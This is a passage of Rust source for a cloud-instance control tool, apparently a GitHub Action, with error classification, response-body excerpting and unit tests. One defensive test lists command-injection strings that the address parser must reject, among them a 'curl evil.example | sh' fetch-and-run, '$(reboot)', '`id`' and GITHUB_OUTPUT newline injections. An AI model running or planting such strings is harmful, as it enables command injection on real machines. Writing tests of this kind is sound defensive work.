    /// its instance type sold out — so the batch is split and the others go ahead.
    pub fn ties_to_a_machine(self) -> bool {
        matches!(self, ErrorClass::Busy | ErrorClass::Capacity)
    }

    /// Whether the refusal is about particular machines, so describing them explains it.
    pub fn concerns_instances(self) -> bool {
        matches!(
            self,
            ErrorClass::AlreadyDone
                | ErrorClass::AlreadyUnderway
                | ErrorClass::WrongState
                | ErrorClass::OperationFailed
                | ErrorClass::NotFound
        )
    }
}

/// An error the cloud answered with (or an answer that could not be read).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{code}: {message}")]
pub struct ApiError {
    /// The cloud's error code, e.g. `InvalidInstanceId.NotFound`.
    pub code: String,
    /// The cloud's message.
    pub message: String,
    /// The cloud's request id, for support tickets.
    pub request_id: Option<String>,
    /// The HTTP status it came with.
    pub http_status: u16,
    /// What it means for the engine.
    pub class: ErrorClass,
}

impl ApiError {
    /// An answer that is not what the cloud documents.
    pub fn bad_response(action: &str, response: &HttpResponse, what: impl fmt::Display) -> Self {
        Self {
            code: "BadResponse".into(),
            message: format!(
                "unreadable {action} answer (HTTP {}, {}): {what}",
                response.status,
                body_excerpt(&response.body)
            ),
            request_id: None,
            http_status: response.status,
            class: ErrorClass::BadResponse,
        }
    }
}

/// The cloud's error code as reported, or `UnknownError` when the cloud sent an empty one, so a
/// report never carries a blank code.
pub(crate) fn reported_code(code: String) -> String {
    if code.trim().is_empty() {
        "UnknownError".into()
    } else {
        code
    }
}

/// The error an HTTP status alone implies, for answers that carry no error envelope the provider
/// could read: 429 is throttling, 5xx transient, any other non-2xx a refusal. `None` for 2xx.
pub(crate) fn http_status_error(action: &str, response: &HttpResponse) -> Option<ApiError> {
    let class = match response.status {
        200..=299 => return None,
        429 => ErrorClass::Throttled,
        500..=599 => ErrorClass::Transient,
        _ => ErrorClass::Refused,
    };
    Some(ApiError {
        code: format!("HTTP {}", response.status),
        message: format!("{action} answered {}", body_excerpt(&response.body)),
        request_id: None,
        http_status: response.status,
        class,
    })
}

/// The start of a body as one short printable line, for error messages about odd answers.
pub(crate) fn body_excerpt(body: &[u8]) -> String {
    const MAX: usize = 120;
    let text = String::from_utf8_lossy(&body[..body.len().min(MAX * 16)]);
    // An HTML page (a proxy's error page) reads better as its text.
    let text = if text.trim_start().starts_with('<') {
        let mut plain = String::with_capacity(text.len());
        let mut in_tag = false;
        for c in text.chars() {
            match c {
                '<' => in_tag = true,
                '>' if in_tag => {
                    in_tag = false;
                    plain.push(' ');
                }
                _ if !in_tag => plain.push(c),
                _ => {}
            }
        }
        format!("HTML page: {plain}")
    } else {
        text.into_owned()
    };
    let line: String = text
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .filter(|c| !c.is_control())
        .take(MAX)
        .collect();
    if line.is_empty() {
        "an empty body".into()
    } else {
        format!("`{line}`")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn provider_names_are_unique() {
        let mut names: Vec<_> = names().collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), PROVIDERS.len());
    }

    #[test]
    fn every_vocabulary_names_its_start_states_once() {
        for provider in PROVIDERS {
            let words = &provider.spec().vocabulary;
            let name = provider.name();
            assert_eq!(words.phase(words.starting), Phase::Starting, "{name}");
            assert_eq!(words.phase(words.stopping), Phase::Stopping, "{name}");
            for phase in [Phase::Running, Phase::Stopped] {
                assert!(words.state(phase).is_some(), "{name}: no {phase:?} state");
            }
            let mut states: Vec<_> = words.states.iter().map(|(s, _)| *s).collect();
            states.sort_unstable();
            states.dedup();
            assert_eq!(states.len(), words.states.len(), "{name}: a state twice");
            for table in [words.errors, words.stop_errors] {
                let mut codes: Vec<_> = table.iter().map(|(c, _)| *c).collect();
                codes.sort_unstable();
                codes.dedup();
                assert_eq!(codes.len(), table.len(), "{name}: a code twice");
            }
        }
    }

    #[test]
    fn vocabulary_lookups_prefer_exact_codes_then_the_longest_prefix() {
        let words = Vocabulary {
            states: &[("UP", Phase::Running), ("DOWN", Phase::Stopped)],
            starting: "UP",
            stopping: "DOWN",
            errors: &[
                ("Auth*", ErrorClass::Auth),
                ("Auth.Expired", ErrorClass::ClockSkew),
                ("Auth.Expired.Token*", ErrorClass::Refused),
                ("Busy", ErrorClass::Busy),
                ("State.Down", ErrorClass::WrongState),
            ],
            stop_errors: &[("State.Down", ErrorClass::AlreadyDone)],
        };
        // A stop answer reads the stop's table first, then the shared one.
        assert_eq!(words.class("State.Down"), Some(ErrorClass::WrongState));
        assert_eq!(
            words.class_in(Action::Stop, "State.Down"),
            Some(ErrorClass::AlreadyDone)
        );
        assert_eq!(words.class_in(Action::Stop, "Busy"), Some(ErrorClass::Busy));
        assert_eq!(
            words.code_in(Action::Stop, ErrorClass::AlreadyDone),
            Some("State.Down")
        );
        assert_eq!(words.code_in(Action::Start, ErrorClass::AlreadyDone), None);
        assert_eq!(words.class("Auth.Expired"), Some(ErrorClass::ClockSkew));
        assert_eq!(words.class("Auth.Other"), Some(ErrorClass::Auth));
        assert_eq!(
            words.class("Auth.Expired.TokenX"),
            Some(ErrorClass::Refused)
        );
        assert_eq!(words.class("Busy.More"), None);
        assert_eq!(words.code(ErrorClass::Auth), None, "a prefix is not a code");
        assert_eq!(words.code(ErrorClass::Busy), Some("Busy"));
        assert_eq!(words.phase("SIDEWAYS"), Phase::Unknown);
        assert_eq!(words.state(Phase::Stopped), Some("DOWN"));
    }

    #[test]
    fn address_fields_are_read_leniently_and_never_fail() {
        #[derive(Deserialize)]
        struct Wire {
            #[serde(default)]
            ips: WireIps,
            #[serde(default)]
            pair: Lenient<(String, u8)>,
        }
        let read = |json: &str| -> (Vec<String>, (String, u8)) {
            let wire: Wire = serde_json::from_str(json).unwrap();
            (wire.ips.0, wire.pair.0)
        };
        assert_eq!(
            read(r#"{"ips":["10.0.0.1"," 10.0.0.2 "]}"#).0,
            ["10.0.0.1", "10.0.0.2"]
        );
        assert_eq!(read(r#"{"ips":"203.0.113.1"}"#).0, ["203.0.113.1"]);
        for odd in ["null", r#""""#, "7", "{}", r#"[null,1,"",{}]"#] {
            assert!(read(&format!(r#"{{"ips":{odd}}}"#)).0.is_empty(), "{odd}");
        }
        assert!(read("{}").0.is_empty());
        assert_eq!(read(r#"{"pair":["a",1]}"#).1, ("a".to_string(), 1));
        assert_eq!(read(r#"{"pair":["a",300]}"#).1, (String::new(), 0));
        assert_eq!(read(r#"{"pair":null}"#).1, (String::new(), 0));
    }

    /// Issue 20 item 1: an address reaches the report, the Action's `GITHUB_OUTPUT` and a port
    /// probe, so only IP literals are kept, and only the first few of a kind.
    #[test]
    fn only_ip_literals_are_kept_and_at_most_a_few_of_a_kind() {
        let read = |json: &str| -> Vec<String> {
            #[derive(Deserialize)]
            struct Wire {
                ips: WireIps,
            }
            serde_json::from_str::<Wire>(json).unwrap().ips.0
        };
        let hostile = [
            "203.0.113.1\nexit-code=0",
            "203.0.113.1; curl evil.example | sh",
            "$(reboot)",
            "`id`",
            "evil.example.com",
            "10.0.0.1/24",
            "fe80::1%eth0",
            "1.2.3",
            "::ffff:1.2.3.4\r\nreport<<EOF",
        ];
        let listed = serde_json::to_string(&hostile).unwrap();
        assert!(read(&format!(r#"{{"ips":{listed}}}"#)).is_empty());
        assert_eq!(
            read(r#"{"ips":["2001:DB8::0:1","::ffff:1.2.3.4","evil",[["10.0.0.9"]],"10.0.0.1"]}"#),
            ["2001:db8::1", "::ffff:1.2.3.4", "10.0.0.1"],
            "canonical literals; lists inside the list are skipped"
        );
        let many: Vec<String> = (0..2400)
            .map(|n| format!("10.{}.{}.1", n / 250, n % 250))
            .collect();
        let kept = read(&format!(
            r#"{{"ips":{}}}"#,
            serde_json::to_string(&many).unwrap()
        ));
        assert_eq!(kept, many[..MAX_ADDRESSES]);
        // Several lists of one kind (one per network interface) are bounded together.
        let state = InstanceState::new("i", "RUNNING", Phase::Running).with_addresses(Addresses {
            public: many.clone(),
            private: many[..3].to_vec(),
        });
        assert_eq!(state.addresses.public.len(), MAX_ADDRESSES);
        assert_eq!(state.addresses.private.len(), 3);
    }

    #[test]
    fn the_preferred_address_is_the_first_public_one_else_the_first_private_one() {
        let mut addresses = Addresses::default();
        assert_eq!(addresses.preferred(), None);
        addresses.private = vec!["10.0.0.1".into(), "10.0.0.2".into()];
        assert_eq!(addresses.preferred(), Some("10.0.0.1"));
        addresses.public = vec!["203.0.113.1".into()];
        assert_eq!(addresses.preferred(), Some("203.0.113.1"));
    }

    #[test]
    fn signed_requests_leave_query_and_body_out_of_debug_output() {
        let request = SignedRequest {
            method: Method::Post,
            path_and_query: "/api?signature=c2lnbmF0dXJl".into(),
            headers: vec![Header::plain("Host", "example.com")],
            body: b"Signature=0123abcd".to_vec(),
        };
        let printed = format!("{request:?}");
        assert!(
            printed.contains("\"/api\"") && printed.contains("Host"),
            "{printed}"
        );
        assert!(!printed.contains("c2lnbmF0dXJl"), "{printed}");
        assert!(!printed.contains("0123abcd"), "{printed}");
    }

    #[test]
    fn body_excerpts_are_one_short_line_and_html_is_read_as_text() {
        let page =
            b"<html><head><title>502 Bad Gateway</title></head>\n<body><h1>502</h1></body></html>";
        assert_eq!(body_excerpt(page), "`HTML page: 502 Bad Gateway 502`");
        assert_eq!(body_excerpt(b""), "an empty body");
        assert_eq!(body_excerpt("x".repeat(500).as_bytes()).len(), 122);
    }

    #[test]
    fn sensitive_headers_are_redacted_in_debug_output() {
        let header = Header::sensitive("Authorization", "TC3 Signature=abc");
        assert_eq!(format!("{header:?}"), "Authorization: (redacted)");
    }
}
